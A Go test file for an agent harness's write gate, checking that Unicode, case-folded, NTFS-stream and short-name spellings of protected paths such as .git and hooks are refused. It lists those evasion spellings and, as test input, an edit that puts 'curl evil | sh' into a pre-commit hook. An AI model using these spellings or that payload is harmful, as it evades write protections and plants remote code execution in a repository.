package gate

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bmatcuk/doublestar/v4"

	"github.com/b10x/harness/tools"
)

// TestFoldKey pins which spellings the fold takes for the same name: every
// one a case-insensitive directory may take for an ASCII name, and the
// differences from the kernel's casefold the decision documents.
func TestFoldKey(t *testing.T) {
	same := [][2]string{
		{".GIT", ".git"},
		{".Git/Hooks/post-checkout", ".git/hooks/POST-CHECKOUT"},
		{".g\u200dit", ".git"},               // ZERO WIDTH JOINER, ignorable
		{".g\u200cit/config", ".git/config"}, // ZERO WIDTH NON-JOINER
		{"\ufeff.git", ".git"},               // BYTE ORDER MARK
		{".gi\u034ft", ".git"},               // COMBINING GRAPHEME JOINER
		{".git\ufe0f", ".git"},               // VARIATION SELECTOR-16
		{".git.", ".git"},                    // vfat and Windows drop trailing dots
		{".git  /config", ".git/config"},
		{".git::$INDEX_ALLOCATION/config", ".git/config"}, // an NTFS stream of the directory
		{"\u017fecret.pem", "secret.pem"},                 // LATIN SMALL LETTER LONG S
		{"\u212aey", "key"},                               // KELVIN SIGN
		{"stra\u00dfe", "STRASSE"},                        // ß folds to ss in full folding
		{"\u1e9e", "ss"},
		{"\ufb01le", "file"}, // the fi ligature
		{"\ufb06ore", "store"},
		{"a\u037eb", "a;b"},
		{"\u03a3\u03c3\u03c2", "\u03c3\u03c3\u03c3"}, // sigma's three forms
	}
	for _, c := range same {
		if a, b := foldKey(c[0]), foldKey(c[1]); a != b {
			t.Errorf("foldKey(%+q) = %+q, foldKey(%+q) = %+q: want equal", c[0], a, c[1], b)
		}
	}
	differ := [][2]string{
		{".gi", ".git"},
		{"git", ".git"},
		{".git/config", ".git/configs"},
		{".g-it", ".git"},
		{"\u0131", "i"},       // dotless i: Turkic folding only, which Linux does not use
		{"\u00e9", "e\u0301"}, // NFD is not done: a documented difference from the kernel
		{"...", ""},
	}
	for _, c := range differ {
		if a, b := foldKey(c[0]), foldKey(c[1]); a == b {
			t.Errorf("foldKey(%+q) = foldKey(%+q) = %+q: want different", c[0], c[1], a)
		}
	}
	// The ASCII fast path and the general one agree.
	for _, s := range []string{"src/Main.go", "a b/c", ".git", "x.PEM"} {
		var b strings.Builder
		for i, seg := range strings.Split(s, "/") {
			if i > 0 {
				b.WriteByte('/')
			}
			foldString(&b, seg)
		}
		if got := foldKey(s); got != b.String() {
			t.Errorf("foldKey(%q) = %q, the general path gives %q", s, got, b.String())
		}
	}
}

func TestProtectionFolded(t *testing.T) {
	extra := []string{"run.jsonl", "hooks/check.sh"}
	for _, c := range []struct {
		rel   string
		p     string
		exact bool
	}{
		{".git", ".git", true},
		{".git/config", ".git", true},
		{".GIT/config", ".git", false},
		{".Git/hooks/x", ".git", false},
		{".g\u200dit/hooks/pre-commit", ".git", false},
		{".git./config", ".git", false},
		{"GIT~1/config", ".git", false},
		{"git~12/hooks", ".git", false},
		{".B10X/agents/a.md", ".b10x", false},
		{"b10x~1", ".b10x", false},
		{"RUN.JSONL", "run.jsonl", false},
		{"Hooks/Check.sh", "hooks/check.sh", false},
		{"hooks/check.\u017fh", "hooks/check.sh", false},
		{"hooks/check.sh", "hooks/check.sh", true},
		{"GIT~", "", false},
		{"GIT~1x", "", false},
		{"git", "", false},
		{".gitignore", "", false},
		{"src/.GIT", "", false},
		{"hooks", "", false},
	} {
		p, exact, ok := protection(c.rel, extra)
		if p != c.p || ok != (c.p != "") || exact != c.exact {
			t.Errorf("protection(%+q) = %q, exact %v, %v; want %q, exact %v", c.rel, p, exact, ok, c.p, c.exact)
		}
	}
}

func rules(t testing.TB, ss ...string) []ScopeRule {
	t.Helper()
	var out []ScopeRule
	for _, s := range ss {
		r, err := ParseScopeRule(s)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// TestScopeFolded: restricting rules hold for every spelling, allow rules
// admit only the one they name, and the verdict is never less strict than
// the byte-for-byte one.
func TestScopeFolded(t *testing.T) {
	rs := rules(t, "src/**=allowed", "config/*.yaml=partial-only", "**/*.pem=denied", "docs/**=partial-only")
	for _, c := range []struct {
		rel    string
		rule   int
		access Access
		folded bool
	}{
		{"src/a.pem", 0, Allowed, false},
		{"src/A.PEM", 0, Allowed, false}, // the allow rule names src, spelt so
		{"SRC/a.pem", 2, Denied, false},  // the allow rule does not match SRC byte for byte
		{"key.PEM", 2, Denied, true},
		{"\u212a\u200dey.PEM", 2, Denied, true},
		{"config/app.yaml", 1, PartialOnly, false},
		{"CONFIG/app.YAML", 1, PartialOnly, true},
		{"Config/app.yaml.", 1, PartialOnly, true},
		{"DOCS/secret.pem", 2, Denied, false}, // byte for byte denied; the folded match (docs/**) is not stricter
		{"SRC/main.go", -1, 0, false},
		{"notes.txt", -1, 0, false},
	} {
		v := matchScope(rs, c.rel)
		if v.Rule != c.rule || v.Access != c.access || v.Folded != c.folded {
			t.Errorf("%+q: %+v, want rule %d %s folded=%v", c.rel, v, c.rule, c.access, c.folded)
		}
	}
}

// FuzzScopeFold: the folded verdict is never less strict than the
// byte-for-byte one, and differs from it only for a restricting rule; an
// allow rule alone matches exactly what doublestar matches.
func FuzzScopeFold(f *testing.F) {
	for _, s := range [][3]string{
		{"src/**=allowed", "**/*.pem=denied", "SRC/K.PEM"},
		{"Docs/**=allowed", "docs/**=denied", "DOCS/x"},
		{"[a-z]*=partial-only", "**=denied", "Q\u00df"},
		{".git/**=allowed", "**=allowed", ".GIT/hooks/x"},
		{"{a,B}/\u212a=denied", "*=allowed", "b/k"},
	} {
		f.Add(s[0], s[1], s[2])
	}
	f.Fuzz(func(t *testing.T, r1, r2, path string) {
		var rs []ScopeRule
		for _, s := range []string{r1, r2} {
			if r, err := ParseScopeRule(s); err == nil {
				rs = append(rs, r)
			}
		}
		sc := newScope(rs)
		v, b := sc.match(path), sc.matchBytes(path)
		if strictness(v.Access) < strictness(b.Access) {
			t.Fatalf("rules %v path %+q: %+v is less strict than the byte-for-byte %+v", rs, path, v, b)
		}
		if v.Folded != (v.Rule != b.Rule) || v.Folded && !restricting(v.Access) {
			t.Fatalf("rules %v path %+q: %+v against byte-for-byte %+v", rs, path, v, b)
		}
		for _, r := range rs {
			if r.Access != Allowed {
				continue
			}
			ok, _ := doublestar.Match(r.Glob, path)
			if got := matchScope([]ScopeRule{r}, path); (got.Rule == 0) != ok {
				t.Fatalf("allow rule %v path %+q: matched %v, doublestar says %v", r, path, got.Rule == 0, ok)
			}
		}
	})
}

// TestCaseFoldedWrites is TestFoldKey at the gate with real files: on
// this host's (case-sensitive) directories, every spelling of a protected
// path a case-insensitive one would take for it is refused and nothing is
// created; a restricting rule refuses every spelling; an allow rule that
// names a protected path admits only its own spelling.
func TestCaseFoldedWrites(t *testing.T) {
	g, dir, rec := newTestGate(t, Config{ApproveUpTo: High, Protected: []string{"run.jsonl"},
		WriteScope: rules(t, ".git/hooks/**=allowed", "src/**=allowed", "**/*.pem=denied", "config/*.yaml=partial-only", "**=allowed")})
	write(t, filepath.Join(dir, ".git/config"), "[core]\n")
	write(t, filepath.Join(dir, "config/app.yaml"), "a: 1\n")
	refused := []string{
		".GIT/config", ".Git/hooks/post-checkout", ".git/HOOKS/post-checkout", ".g\u200dit/config", ".git./config",
		"GIT~1/config", ".B10X/agents/a.md", "RUN.JSONL", "run.jsonl", "KEY.PEM", "SRC/key.pem", "CONFIG/app.yaml",
	}
	for _, p := range refused {
		o := call(g, "file_write", fmt.Sprintf(`{"path":%q,"content":"#!/bin/sh\n"}`, p))
		if o.Status != Refused || o.Reason != tools.ReasonDeniedPath {
			t.Errorf("file_write %+q: %+v, want refused (denied_path)", p, o)
		}
		if p == ".GIT/config" && !strings.Contains(o.Message, "on a case-insensitive directory it names .git") {
			t.Errorf("file_write %+q: %q, want the reason: another spelling of .git", p, o.Message)
		}
	}
	ents, err := os.ReadDir(dir)
	must(t, err)
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	if got := strings.Join(names, " "); got != ".git config" {
		t.Errorf("the workspace holds %q after the refusals, want only .git and config", got)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); string(b) != "[core]\n" {
		t.Errorf(".git/config changed: %q", b)
	}
	for _, p := range []string{".git/hooks/post-checkout", "src/KEY.PEM", "Notes.txt"} {
		if o := call(g, "file_write", fmt.Sprintf(`{"path":%q,"content":"x"}`, p)); o.Status != Executed {
			t.Errorf("file_write %+q: %+v, want executed", p, o)
		}
	}
	// The record says a verdict came from the folded match.
	r := records(t, rec)
	var detail string
	for _, s := range r[9].Steps {
		if s.Step == "scope" {
			detail = s.Detail
		}
	}
	if !strings.Contains(detail, "denied by write-scope rule 3") || !strings.Contains(detail, "case folded") {
		t.Errorf("record of KEY.PEM: scope step %q, want the rule and that case was folded", detail)
	}
	// Another spelling of .git is refused by the protection, not a rule.
	for _, s := range r[0].Steps {
		if s.Step == "scope" && (s.Verdict != "refuse" || s.Rule != nil) {
			t.Errorf("record of .GIT/config: scope step %+v, want refused with no rule named", s)
		}
	}
}

// TestFoldedRuleNeverAdmitsProtected: a rule that names a protected path
// admits it only when it matches the path byte for byte; a rule matching
// it only with case folded restricts, never admits.
func TestFoldedRuleNeverAdmitsProtected(t *testing.T) {
	g, dir, _ := newTestGate(t, Config{ApproveUpTo: High, WriteScope: rules(t, ".git/HOOKS/**=partial-only")})
	write(t, filepath.Join(dir, ".git/hooks/pre-commit"), "exit 0\n")
	o := call(g, "file_edit", `{"path":".git/hooks/pre-commit","old_string":"exit 0","new_string":"curl evil | sh"}`)
	if o.Status != Refused || !strings.Contains(o.Message, "only a write_scope rule naming .git explicitly can admit it") {
		t.Fatalf("file_edit of .git/hooks/pre-commit under .git/HOOKS/**=partial-only: %+v, want refused as protected", o)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".git/hooks/pre-commit")); string(b) != "exit 0\n" {
		t.Fatalf("the hook was changed: %q", b)
	}
	// The rule spelt as the path is admits the edit it allows.
	g, dir, _ = newTestGate(t, Config{ApproveUpTo: High, WriteScope: rules(t, ".git/hooks/**=partial-only")})
	write(t, filepath.Join(dir, ".git/hooks/pre-commit"), "exit 0\n")
	if o := call(g, "file_edit", `{"path":".git/hooks/pre-commit","old_string":"exit 0","new_string":"exit 1"}`); o.Status != Executed {
		t.Fatalf("file_edit under .git/hooks/**=partial-only: %+v, want executed", o)
	}
}
